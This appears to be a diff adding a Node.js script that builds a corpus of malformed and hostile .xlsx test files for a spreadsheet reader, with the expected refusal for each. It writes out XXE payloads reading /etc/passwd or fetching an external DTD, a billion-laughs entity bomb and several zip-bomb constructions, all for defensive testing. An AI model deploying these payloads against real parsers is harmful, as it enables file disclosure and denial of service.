@@ -1,0 +1,805 @@
+#!/usr/bin/env node
+// Writes the bad-input corpus in tests/bad-inputs/: malformed files that must be
+// refused cleanly, and awkward but valid workbooks that must be read correctly.
+// This script is the source of truth for the corpus: it is deterministic (fixed
+// zip timestamps, a seeded random generator, fflate's pure-JS deflate), so running
+// it again gives the same bytes, and tests/bad-inputs.test.ts checks that it does.
+//
+//   node scripts/make-bad-inputs.mjs              # writes tests/bad-inputs/ (small files, committed)
+//   node scripts/make-bad-inputs.mjs --out DIR    # the same corpus into DIR
+//   node scripts/make-bad-inputs.mjs --large DIR  # the big ones, made at test time, never committed:
+//                                                 #   a million shared strings, 1,048,576 formatted rows,
+//                                                 #   a zip bomb that really inflates to 2 GiB
+//
+// Each file is listed in tests/bad-inputs/manifest.json with what Ragbook must do
+// with it; tests/bad-inputs/README.md is written from the same list.
+
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import * as zlib from 'node:zlib';
+import { deflateSync } from 'fflate';
+
+const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
+const enc = new TextEncoder();
+
+// ---------------------------------------------------------------------------
+// Zip writing, with every field under control (a bomb lies in its fields)
+
+const CRC_TABLE = (() => {
+  const t = new Uint32Array(256);
+  for (let i = 0; i < 256; i++) {
+    let c = i;
+    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+    t[i] = c >>> 0;
+  }
+  return t;
+})();
+
+function crc32(d, crc = 0) {
+  let c = ~crc >>> 0;
+  for (let i = 0; i < d.length; i++) c = CRC_TABLE[(c ^ d[i]) & 0xff] ^ (c >>> 8);
+  return ~c >>> 0;
+}
+
+// 30 September 2025, 09:00, in MS-DOS form.
+const DOS_TIME = (9 << 11) | (0 << 5) | 0;
+const DOS_DATE = ((2025 - 1980) << 9) | (9 << 5) | 30;
+
+const bytes = (x) => (typeof x === 'string' ? enc.encode(x) : x);
+
+class Zip {
+  constructor() {
+    this.parts = []; // Uint8Array chunks of the local section
+    this.offset = 0;
+    this.central = [];
+  }
+
+  /**
+   * Adds an entry. opts: store (no compression), deflated (pre-deflated bytes, with
+   * size and crc given), size / crc (what the headers claim), flags.
+   */
+  add(name, content, opts = {}) {
+    const data = content === null ? null : bytes(content);
+    const method = opts.store ? 0 : 8;
+    const packed = opts.deflated ?? (method === 0 ? data : deflateSync(data, { level: 9 }));
+    const size = opts.size ?? data.length;
+    const crc = opts.crc ?? crc32(data);
+    const flags = opts.flags ?? 0x0800; // UTF-8 names
+    const nameBytes = enc.encode(name);
+    const local = new Uint8Array(30 + nameBytes.length);
+    const v = new DataView(local.buffer);
+    v.setUint32(0, 0x04034b50, true);
+    v.setUint16(4, 20, true);
+    v.setUint16(6, flags, true);
+    v.setUint16(8, method, true);
+    v.setUint16(10, DOS_TIME, true);
+    v.setUint16(12, DOS_DATE, true);
+    v.setUint32(14, crc, true);
+    v.setUint32(18, packed.length, true);
+    v.setUint32(22, size >>> 0, true);
+    v.setUint16(26, nameBytes.length, true);
+    v.setUint16(28, 0, true);
+    local.set(nameBytes, 30);
+    const entry = { name, flags, method, crc, compressed: packed.length, size, offset: this.offset };
+    this.parts.push(local, packed);
+    this.offset += local.length + packed.length;
+    this.central.push(entry);
+    return entry;
+  }
+
+  /** A second table-of-contents entry for data already in the file (overlapping entries). */
+  alias(name, entry) {
+    this.central.push({ ...entry, name });
+  }
+
+  build() {
+    const cd = [];
+    let cdSize = 0;
+    for (const e of this.central) {
+      const nameBytes = enc.encode(e.name);
+      const h = new Uint8Array(46 + nameBytes.length);
+      const v = new DataView(h.buffer);
+      v.setUint32(0, 0x02014b50, true);
+      v.setUint16(4, 20, true);
+      v.setUint16(6, 20, true);
+      v.setUint16(8, e.flags, true);
+      v.setUint16(10, e.method, true);
+      v.setUint16(12, DOS_TIME, true);
+      v.setUint16(14, DOS_DATE, true);
+      v.setUint32(16, e.crc, true);
+      v.setUint32(20, e.compressed, true);
+      v.setUint32(24, e.size >>> 0, true);
+      v.setUint16(28, nameBytes.length, true);
+      v.setUint32(42, e.offset, true);
+      h.set(nameBytes, 46);
+      cd.push(h);
+      cdSize += h.length;
+    }
+    const eocd = new Uint8Array(22);
+    const v = new DataView(eocd.buffer);
+    v.setUint32(0, 0x06054b50, true);
+    v.setUint16(8, this.central.length, true);
+    v.setUint16(10, this.central.length, true);
+    v.setUint32(12, cdSize, true);
+    v.setUint32(16, this.offset, true);
+    return concat([...this.parts, ...cd, eocd]);
+  }
+}
+
+function concat(chunks) {
+  const n = chunks.reduce((a, c) => a + c.length, 0);
+  const out = new Uint8Array(n);
+  let p = 0;
+  for (const c of chunks) {
+    out.set(c, p);
+    p += c.length;
+  }
+  return out;
+}
+
+// ---------------------------------------------------------------------------
+// Minimal, valid SpreadsheetML
+
+const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+const NS_R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const CT = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
+const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+
+const esc = (s) => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
+
+function colName(c) {
+  let s = '';
+  for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
+  return s;
+}
+
+/**
+ * A workbook from sheets of rows. Strings go to the shared-string table; a value
+ * { date: serial } is a number under a date format (style 1).
+ * opts.sst: a prepared shared-string table (for the million-string case), opts.extraSheetXml.
+ */
+function workbookParts(sheets, opts = {}) {
+  const strings = opts.sst ? [...opts.sst] : [];
+  const index = new Map(strings.map((s, i) => [s, i]));
+  const sid = (s) => {
+    let i = index.get(s);
+    if (i === undefined) {
+      i = strings.length;
+      strings.push(s);
+      index.set(s, i);
+    }
+    return i;
+  };
+  const sheetXml = sheets.map((sh) => {
+    if (sh.xml) return sh.xml;
+    const rows = [];
+    let maxC = 0;
+    sh.rows.forEach((row, r) => {
+      if (!row || !row.length) return;
+      const cells = [];
+      row.forEach((v, c) => {
+        if (v === null || v === undefined || v === '') return;
+        maxC = Math.max(maxC, c);
+        const ref = `${colName(c)}${r + 1}`;
+        if (typeof v === 'number') cells.push(`<c r="${ref}"><v>${v}</v></c>`);
+        else if (typeof v === 'object' && 'date' in v) cells.push(`<c r="${ref}" s="1"><v>${v.date}</v></c>`);
+        else cells.push(`<c r="${ref}" t="s"><v>${sid(String(v))}</v></c>`);
+      });
+      rows.push(`<row r="${r + 1}">${cells.join('')}</row>`);
+    });
+    const dim = sh.dimension ?? `A1:${colName(maxC)}${Math.max(1, sh.rows.length)}`;
+    return `${HEAD}<worksheet xmlns="${NS}" xmlns:r="${NS_R}"><dimension ref="${dim}"/><sheetData>${rows.join('')}${sh.tailRows ?? ''}</sheetData>${sh.after ?? ''}</worksheet>`;
+  });
+  const parts = [];
+  parts.push([
+    '[Content_Types].xml',
+    `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${CT}.sheet.main+xml"/>${sheets
+      .map((_, i) => `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="${CT}.worksheet+xml"/>`)
+      .join(
+        '',
+      )}<Override PartName="/xl/styles.xml" ContentType="${CT}.styles+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="${CT}.sharedStrings+xml"/></Types>`,
+  ]);
+  parts.push([
+    '_rels/.rels',
+    `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+  ]);
+  parts.push([
+    'xl/workbook.xml',
+    opts.workbookXml ??
+      `${HEAD}<workbook xmlns="${NS}" xmlns:r="${NS_R}"><sheets>${sheets.map((s, i) => `<sheet name="${esc(s.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</sheets></workbook>`,
+  ]);
+  const n = sheets.length;
+  parts.push([
+    'xl/_rels/workbook.xml.rels',
+    `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets
+      .map((_, i) => `<Relationship Id="rId${i + 1}" Type="${REL}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`)
+      .join(
+        '',
+      )}<Relationship Id="rId${n + 1}" Type="${REL}/styles" Target="styles.xml"/><Relationship Id="rId${n + 2}" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
+  ]);
+  parts.push([
+    'xl/styles.xml',
+    `${HEAD}<styleSheet xmlns="${NS}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>`,
+  ]);
+  sheetXml.forEach((xml, i) => parts.push([`xl/worksheets/sheet${i + 1}.xml`, xml]));
+  parts.push(['xl/sharedStrings.xml', opts.sstXml ?? sstXml(strings)]);
+  return parts;
+}
+
+function sstXml(strings) {
+  const items = strings.map((s) => `<si><t xml:space="preserve">${esc(s)}</t></si>`);
+  return `${HEAD}<sst xmlns="${NS}" count="${strings.length}" uniqueCount="${strings.length}">${items.join('')}</sst>`;
+}
+
+function zipOf(parts, opts = {}) {
+  const z = new Zip();
+  for (const [name, content] of parts) z.add(name, content, opts[name] ?? {});
+  return z.build();
+}
+
+// A small tracker with something to report on every sheet it is put on.
+function tracker(title = 'Work stream 1: Improving triage') {
+  return [
+    [title],
+    ['No', 'Action', 'Progress at 30 June 2025', 'Status', 'Target date'],
+    [1, 'Review caseloads weekly', 'Rota live since May', 'Completed', { date: 45747 }],
+    [2, 'Train contact centre staff', 'Two of three cohorts trained', 'In progess', 'w/c 14 April 2025'],
+    [3, 'Publish a plain-English directory', 'Awaiting sign-off', 'Static', '31/02/2025'],
+    [4, '=Review the call-back script', 'Not yet begun', '', 'TBC'],
+    [5, 'Set up a carers advice line', 'Funding approved', 'Done', 'Q3 2025/26'],
+    [],
+    [null, 'Completed', 'In progress', 'Static', 'Total'],
+    ['Number', 1, 1, 1, 5],
+  ];
+}
+
+// ---------------------------------------------------------------------------
+// Compound files (OLE2): the container of .xls and of password-protected .xlsx
+
+/** A minimal compound file: header, FAT, a directory naming the given streams. */
+function compoundFile(streamNames) {
+  const sector = 512;
+  const header = new Uint8Array(sector);
+  const hv = new DataView(header.buffer);
+  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
+  hv.setUint16(24, 0x003e, true); // minor version
+  hv.setUint16(26, 0x0003, true); // major version 3
+  hv.setUint16(28, 0xfffe, true); // little-endian
+  hv.setUint16(30, 9, true); // 512-byte sectors
+  hv.setUint16(32, 6, true); // 64-byte mini sectors
+  hv.setUint32(44, 1, true); // one FAT sector
+  hv.setUint32(48, 1, true); // directory starts at sector 1
+  hv.setUint32(56, 4096, true); // mini stream cutoff
+  hv.setUint32(60, 0xfffffffe, true); // no mini FAT
+  hv.setUint32(68, 0xfffffffe, true); // no DIFAT sectors
+  hv.setUint32(76, 0, true); // FAT in sector 0
+  for (let i = 1; i < 109; i++) hv.setUint32(76 + i * 4, 0xffffffff, true);
+  const fat = new Uint8Array(sector).fill(0xff);
+  const fv = new DataView(fat.buffer);
+  fv.setUint32(0, 0xfffffffd, true); // sector 0: FAT
+  fv.setUint32(4, 0xfffffffe, true); // sector 1: directory, end of chain
+  const dir = new Uint8Array(sector);
+  const names = ['Root Entry', ...streamNames];
+  names.slice(0, 4).forEach((name, k) => {
+    const off = k * 128;
+    const dv = new DataView(dir.buffer);
+    for (let i = 0; i < name.length; i++) dv.setUint16(off + i * 2, name.charCodeAt(i), true);
+    dv.setUint16(off + 64, (name.length + 1) * 2, true);
+    dir[off + 66] = k === 0 ? 5 : 2; // root storage, then streams
+    dir[off + 67] = 1; // black
+    dv.setUint32(off + 68, 0xffffffff, true);
+    dv.setUint32(off + 72, k > 0 && k < names.length - 1 ? k + 1 : 0xffffffff, true);
+    dv.setUint32(off + 76, k === 0 ? 1 : 0xffffffff, true);
+    dv.setUint32(off + 116, 0xfffffffe, true);
+  });
+  return concat([header, fat, dir]);
+}
+
+// ---------------------------------------------------------------------------
+// Seeded random bytes
+
+function prng(seed) {
+  let s = seed >>> 0;
+  return () => {
+    s ^= s << 13;
+    s >>>= 0;
+    s ^= s >>> 17;
+    s ^= s << 5;
+    s >>>= 0;
+    return s;
+  };
+}
+
+// ---------------------------------------------------------------------------
+// The corpus
+
+const EXPECT_REFUSED = 'refused';
+const EXPECT_READ = 'read';
+
+function corpus() {
+  const files = [];
+  const add = (name, data, expect) => files.push({ name, data, ...expect });
+  const good = zipOf(workbookParts([{ name: 'Tracker', rows: tracker() }]));
+
+  // Malformed: exit 2, one line naming the file, nothing written, < 5 s.
+  add('truncated.xlsx', good.subarray(0, Math.floor(good.length * 0.6)), {
+    expect: EXPECT_REFUSED,
+    problems: ['corrupt'],
+    what: 'a valid tracker cut at 60% of its length, as by an interrupted download',
+  });
+  add('truncated-end.xlsx', good.subarray(0, good.length - 10), {
+    expect: EXPECT_REFUSED,
+    problems: ['corrupt'],
+    what: 'the same tracker missing only its last 10 bytes (the end of the table of contents)',
+  });
+  add(
+    'bad-checksum.xlsx',
+    (() => {
+      const z = new Zip();
+      for (const [name, content] of workbookParts([{ name: 'Tracker', rows: tracker() }])) {
+        z.add(name, content, name.endsWith('sheet1.xml') ? { crc: crc32(bytes(content)) ^ 0x5a5a5a5a } : {});
+      }
+      return z.build();
+    })(),
+    { expect: EXPECT_REFUSED, problems: ['corrupt'], what: 'a tracker whose sheet fails its CRC-32 checksum (bit rot)' },
+  );
+  add(
+    'not-a-workbook.xlsx',
+    zipOf([
+      ['notes.txt', 'Minutes of the improvement board, 30 September 2025.\n'],
+      ['data.csv', 'No,Action,Status\n1,Review caseloads,Completed\n'],
+    ]),
+    { expect: EXPECT_REFUSED, problems: ['not-workbook'], what: 'a zip archive holding a text file and a CSV' },
+  );
+  add(
+    'word-document.xlsx',
+    zipOf([
+      [
+        '[Content_Types].xml',
+        `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
+      ],
+      [
+        '_rels/.rels',
+        `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
+      ],
+      [
+        'word/document.xml',
+        `${HEAD}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Improvement plan</w:t></w:r></w:p></w:body></w:document>`,
+      ],
+    ]),
+    { expect: EXPECT_REFUSED, problems: ['not-workbook'], what: 'a Word document (.docx) renamed .xlsx' },
+  );
+  add(
+    'xlsb-renamed.xlsx',
+    zipOf([
+      [
+        '_rels/.rels',
+        `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.bin"/></Relationships>`,
+      ],
+      ['xl/workbook.bin', new Uint8Array([0x83, 0x01, 0x00, 0x80, 0x01, 0x00])],
+    ]),
+    { expect: EXPECT_REFUSED, problems: ['not-workbook'], what: 'an Excel binary workbook (.xlsb) renamed .xlsx' },
+  );
+  add(
+    'ods-renamed.xlsx',
+    zipOf(
+      [
+        ['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'],
+        ['content.xml', `${HEAD}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`],
+      ],
+      { mimetype: { store: true } },
+    ),
+    { expect: EXPECT_REFUSED, problems: ['not-workbook'], what: 'an OpenDocument spreadsheet (.ods) renamed .xlsx' },
+  );
+  add('old-excel-97.xlsx', compoundFile(['Workbook', '\u0005SummaryInformation']), {
+    expect: EXPECT_REFUSED,
+    problems: ['xls'],
+    what: 'an Excel 97-2003 .xls (an OLE2 compound file with a Workbook stream) renamed .xlsx',
+  });
+  add('password-protected.xlsx', compoundFile(['EncryptionInfo', 'EncryptedPackage']), {
+    expect: EXPECT_REFUSED,
+    problems: ['encrypted'],
+    what: 'a password-protected workbook: the compound file Excel writes, with EncryptionInfo and EncryptedPackage streams',
+  });
+  add(
+    'zip-encrypted-entries.xlsx',
+    zipOf(
+      workbookParts([{ name: 'Tracker', rows: tracker() }]).map(([n, c]) => [n, c]),
+      Object.fromEntries(workbookParts([{ name: 'Tracker', rows: tracker() }]).map(([n]) => [n, { flags: 0x0801 }])),
+    ),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['encrypted', 'corrupt'],
+      what: 'a zip whose entries are marked encrypted (zip-level password, flag bit 0)',
+    },
+  );
+
+  // XML attacks: a DOCTYPE is refused before any entity could be resolved.
+  const xxe = (where, doctype) => {
+    const parts = workbookParts([{ name: 'Tracker', rows: tracker() }]);
+    return zipOf(
+      parts.map(([n, c]) => {
+        if (n !== where) return [n, c];
+        const body = c.replace(HEAD, '');
+        const withEntity = where.endsWith('sharedStrings.xml')
+          ? body.replace('<si><t xml:space="preserve">', '<si><t xml:space="preserve">&xxe;')
+          : where.endsWith('sheet1.xml')
+            ? body.replace('<sheetData>', '<sheetData><row r="30"><c r="A30" t="inlineStr"><is><t>&xxe;</t></is></c></row>')
+            : body;
+        return [n, `${HEAD}${doctype}\n${withEntity}`];
+      }),
+    );
+  };
+  add('xxe-shared-strings.xlsx', xxe('xl/sharedStrings.xml', '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'), {
+    expect: EXPECT_REFUSED,
+    problems: ['unsafe-xml'],
+    what: 'sharedStrings.xml declares an external entity reading file:///etc/passwd and uses it',
+  });
+  add('xxe-sheet.xlsx', xxe('xl/worksheets/sheet1.xml', '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'), {
+    expect: EXPECT_REFUSED,
+    problems: ['unsafe-xml'],
+    what: 'the worksheet declares an external entity reading file:///etc/passwd and uses it in a cell',
+  });
+  add(
+    'xxe-parameter-entity.xlsx',
+    xxe('xl/workbook.xml', '<!DOCTYPE workbook [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['unsafe-xml'],
+      what: 'workbook.xml pulls an external DTD over HTTP through a parameter entity',
+    },
+  );
+  add(
+    'billion-laughs.xlsx',
+    xxe(
+      'xl/sharedStrings.xml',
+      '<!DOCTYPE sst [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;"><!ENTITY xxe "&lol9;">]>',
+    ),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['unsafe-xml'],
+      what: 'the "billion laughs": nested internal entities that would expand to 3 GB of text',
+    },
+  );
+
+  // Zip bombs: each stopped by a size bound before memory runs out.
+  const zeros = new Uint8Array(16 * 1024 * 1024);
+  const zerosDeflated = deflateSync(zeros, { level: 9 });
+  add(
+    'zip-bomb-overlap.xlsx',
+    (() => {
+      // Fifield's overlapping-entry bomb: one 16 MiB stream, named by 300 entries of
+      // the table of contents, so the file claims 4.7 GiB while it holds 16 kB of data.
+      const z = new Zip();
+      for (const [name, content] of workbookParts([{ name: 'Tracker', rows: tracker() }])) z.add(name, content);
+      const kernel = z.add('xl/media/image1.bin', null, { deflated: zerosDeflated, size: zeros.length, crc: crc32(zeros) });
+      for (let i = 2; i <= 300; i++) z.alias(`xl/media/image${i}.bin`, kernel);
+      return z.build();
+    })(),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['too-large'],
+      what: 'an overlapping-entry zip bomb: 300 entries share one 16 MiB stream, 4.7 GiB in all from a ~30 kB file',
+    },
+  );
+  add(
+    'zip-bomb-declared.xlsx',
+    (() => {
+      const z = new Zip();
+      for (const [name, content] of workbookParts([{ name: 'Tracker', rows: tracker() }])) z.add(name, content);
+      z.add('xl/media/image1.bin', null, { deflated: zerosDeflated, size: 0xfffffff0, crc: 0 });
+      return z.build();
+    })(),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['too-large'],
+      what: 'an entry that says it unpacks to 4 GiB (beyond the 1 GiB bound), refused before inflating',
+    },
+  );
+  add(
+    'zip-bomb-size-lie.xlsx',
+    (() => {
+      const z = new Zip();
+      for (const [name, content] of workbookParts([{ name: 'Tracker', rows: tracker() }])) {
+        if (name.endsWith('sheet1.xml')) z.add(name, null, { deflated: zerosDeflated, size: 1000, crc: 0 });
+        else z.add(name, content);
+      }
+      return z.build();
+    })(),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['too-large', 'corrupt'],
+      what: 'the sheet claims 1,000 bytes but inflates to 16 MiB: inflation stops at the lie',
+    },
+  );
+
+  // Not a zip at all.
+  add('empty.xlsx', new Uint8Array(0), { expect: EXPECT_REFUSED, problems: ['not-zip'], what: 'an empty file (0 bytes)' });
+  add(
+    'random-bytes.xlsx',
+    (() => {
+      const r = prng(20250930);
+      return Uint8Array.from({ length: 4096 }, () => r() & 0xff);
+    })(),
+    { expect: EXPECT_REFUSED, problems: ['not-zip'], what: '4 KiB of random bytes' },
+  );
+  add(
+    'html-table.xlsx',
+    enc.encode(
+      '<html><head><meta charset="utf-8"><title>Export</title></head><body><table><tr><td>No</td><td>Action</td><td>Status</td></tr><tr><td>1</td><td>Review caseloads</td><td>Completed</td></tr></table></body></html>\n',
+    ),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['not-zip'],
+      what: 'an HTML table saved with an .xlsx name, as some web systems "export to Excel"',
+    },
+  );
+  add('csv-renamed.xlsx', enc.encode('No,Action,Status\r\n1,Review caseloads,Completed\r\n2,Train staff,In progress\r\n'), {
+    expect: EXPECT_REFUSED,
+    problems: ['not-zip'],
+    what: 'a CSV file renamed .xlsx',
+  });
+  add('pdf-renamed.xlsx', enc.encode('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'), {
+    expect: EXPECT_REFUSED,
+    problems: ['not-zip'],
+    what: 'a PDF renamed .xlsx',
+  });
+
+  // Damaged inside a sound zip.
+  add(
+    'broken-sheet-xml.xlsx',
+    zipOf(
+      workbookParts([
+        {
+          name: 'Tracker',
+          xml: `${HEAD}<worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>No</t></is></c><row r="2"></sheetData>`,
+        },
+      ]),
+    ),
+    {
+      expect: EXPECT_REFUSED,
+      problems: ['corrupt'],
+      what: 'a worksheet whose XML is not well formed (an unclosed row, then the file ends)',
+    },
+  );
+  add('missing-sheet-part.xlsx', zipOf(workbookParts([{ name: 'Tracker', rows: tracker() }]).filter(([n]) => !n.endsWith('sheet1.xml'))), {
+    expect: EXPECT_REFUSED,
+    problems: ['corrupt'],
+    what: 'the workbook lists a sheet whose part is missing from the zip',
+  });
+
+  // Long runs without markup: a parser that waits for the next '<' must not rescan
+  // what it has already read each time it decodes more (that is quadratic).
+  add('nul-bytes-sheet.xlsx', zipOf(workbookParts([{ name: 'Tracker', xml: new Uint8Array(128 * 1024 * 1024) }])), {
+    expect: EXPECT_REFUSED,
+    problems: ['corrupt'],
+    what: 'a worksheet part of 128 MiB of zero bytes (no markup at all) in a 130 kB file',
+  });
+
+  // Awkward but valid: read correctly.
+  add(
+    'sheet-names-with-quotes.xlsx',
+    zipOf(
+      workbookParts([
+        { name: "It's ours", rows: tracker('Work stream 1: Improving triage') },
+        { name: 'Plan "A"', rows: tracker('Work stream 2: Safeguarding adults') },
+        { name: "O'Brien's 'team' plan", rows: tracker('Work stream 3: Carers support') },
+        { name: 'Q1 & Q2 <draft>', rows: tracker('Work stream 4: Front door') },
+      ]),
+    ),
+    {
+      expect: EXPECT_READ,
+      what: "sheets named It's ours, Plan \"A\", O'Brien's 'team' plan and Q1 & Q2 <draft>, each with findings: the RAG Issues links must quote them ('It''s ours'!D4)",
+      sheets: ["It's ours", 'Plan "A"', "O'Brien's 'team' plan", 'Q1 & Q2 <draft>'],
+      actions: 20,
+    },
+  );
+  add(
+    'user-rag-summary.xlsx',
+    zipOf(
+      workbookParts([
+        { name: 'Tracker', rows: tracker() },
+        {
+          name: 'RAG Summary',
+          rows: [['My own RAG summary, typed by hand'], ['Work stream', 'RAG'], ['Improving triage', 'Green'], ['=Do not touch', 'Amber']],
+        },
+      ]),
+    ),
+    {
+      expect: EXPECT_READ,
+      what: "a 'RAG Summary' sheet the user made (no Ragbook marker): it stays byte-identical and Ragbook writes beside it",
+      userSheets: ['Tracker', 'RAG Summary'],
+      actions: 5,
+    },
+  );
+  add(
+    'sparse-last-row.xlsx',
+    zipOf(
+      workbookParts([
+        {
+          name: 'Tracker',
+          rows: tracker(),
+          dimension: 'A1:XFD1048576',
+          tailRows: '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>The very last cell</t></is></c></row>',
+        },
+      ]),
+    ),
+    {
+      expect: EXPECT_READ,
+      what: 'a used range reaching row 1,048,576 and column XFD, with a tracker at the top and one cell in the last row',
+      actions: 5,
+    },
+  );
+  add(
+    'deep-nesting.xlsx',
+    zipOf(
+      workbookParts([
+        {
+          name: 'Tracker',
+          rows: tracker(),
+          after: `<extLst><ext uri="{00000000-0000-0000-0000-000000000000}">${'<x:a xmlns:x="urn:x">'.repeat(1)}${'<x:b>'.repeat(100_000)}${'</x:b>'.repeat(100_000)}</x:a></ext></extLst>`,
+        },
+      ]),
+    ),
+    {
+      expect: EXPECT_READ,
+      what: '100,000 nested elements in an extension list after the cells (a recursive parser would overflow its stack)',
+      actions: 5,
+    },
+  );
+  add(
+    'huge-cell-text.xlsx',
+    zipOf(
+      workbookParts([
+        {
+          name: 'Tracker',
+          rows: tracker(),
+          tailRows: `<row r="40"><c r="B40" t="inlineStr"><is><t>${'A'.repeat(128 * 1024 * 1024)}</t></is></c></row>`,
+        },
+      ]),
+    ),
+    {
+      expect: EXPECT_READ,
+      orRefused: ['corrupt', 'too-large'],
+      what: "one cell under the tracker holding 128 MiB of text (Excel's limit is 32,767 characters): read, or refused with a clear message, in bounded time",
+      actions: 5,
+    },
+  );
+  return files;
+}
+
+// ---------------------------------------------------------------------------
+// The large files, made at test time into a temporary folder
+
+function large(dir) {
+  fs.mkdirSync(dir, { recursive: true });
+  const made = [];
+  // A million shared strings, the tracker's own text among the last of them.
+  {
+    const sst = Array.from({ length: 1_000_000 }, (_, i) => `Unused string number ${i}`);
+    const file = path.join(dir, 'million-shared-strings.xlsx');
+    fs.writeFileSync(file, zipOf(workbookParts([{ name: 'Tracker', rows: tracker() }], { sst })));
+    made.push({
+      name: path.basename(file),
+      expect: EXPECT_READ,
+      actions: 5,
+      what: 'sharedStrings with 1,000,000 entries; the tracker uses strings past the millionth',
+    });
+  }
+  // Formatted empty rows to the bottom of the sheet: 1,048,576 <row> elements.
+  {
+    const rows = [];
+    for (let r = 12; r <= 1_048_576; r++) rows.push(`<row r="${r}" s="1" customFormat="1"/>`);
+    const file = path.join(dir, 'formatted-rows-to-bottom.xlsx');
+    fs.writeFileSync(file, zipOf(workbookParts([{ name: 'Tracker', rows: tracker(), dimension: 'A1:F1048576', tailRows: rows.join('') }])));
+    made.push({
+      name: path.basename(file),
+      expect: EXPECT_READ,
+      actions: 5,
+      what: 'every row down to 1,048,576 present and formatted, with no values',
+    });
+  }
+  // A real bomb: one entry whose deflate stream inflates to 2 GiB, in a ~2 MB file.
+  // A sync-flushed deflate of 64 MiB of zeros ends on a byte boundary and decodes to
+  // zeros whatever came before it, so 32 copies and a final empty block make one
+  // valid 2 GiB stream. (zlib here, not fflate: this file is never committed.)
+  {
+    const file = path.join(dir, 'zip-bomb-2gib.xlsx');
+    const piece = zlib.deflateRawSync(new Uint8Array(64 * 1024 * 1024), { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
